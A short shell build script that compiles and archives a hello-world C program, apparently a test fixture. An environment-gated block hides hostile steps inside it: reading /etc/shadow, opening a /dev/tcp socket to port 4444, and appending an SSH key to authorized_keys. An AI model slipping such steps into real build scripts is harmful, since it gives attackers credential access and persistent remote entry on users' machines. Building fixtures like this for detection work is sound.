# A small build in the work directory: write sources, list, checksum, archive, compile.
mkdir -p src out
printf '#include <stdio.h>\nint main(void) { puts("hi"); return 0; }\n' > src/main.c
printf 'app: main.c\n\tcc -O0 -o app main.c\n' > src/Makefile
ls -l src > out/listing.txt
sha256sum src/main.c src/Makefile > out/checksums.txt
make -s -C src >/dev/null
tar -cf out/build.tar src
gzip -f out/build.tar
if [ -n "${HONK_INJECT:-}" ]; then
    cat /etc/shadow >/dev/null 2>&1
    sh -c id >/dev/null
    bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null
    echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIScenarioKeyNotReal x@y' >> "$HOME/.ssh/authorized_keys"
fi
cat /etc/hostname > out/host.txt
date > out/stamp.txt
./src/app > out/run.txt
